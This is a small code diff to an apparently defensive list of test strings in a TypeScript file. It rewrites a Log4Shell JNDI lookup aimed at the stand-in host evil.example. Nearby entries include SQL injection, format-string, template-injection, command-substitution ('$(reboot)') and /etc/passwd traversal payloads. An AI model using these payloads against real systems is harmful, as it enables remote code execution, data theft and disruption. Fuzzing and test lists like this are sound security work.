@@ -453,7 +453,7 @@ export const secrets: readonly Category[] = [
       "' or '1'='1' -- ",
       '$argon2id$v=19$m=8,t=1,p=1$c2FsdHNhbHQ$aGFzaA',
       '%s%s%s%s%n%n%n%n',
-      '${jndi:ldap://evil.example/a}',
+      '\u0024{jndi:ldap://evil.example/a}',
       '{{constructor.constructor("return 1")()}}',
       '$(reboot) `reboot`',
       '../../../../etc/passwd',
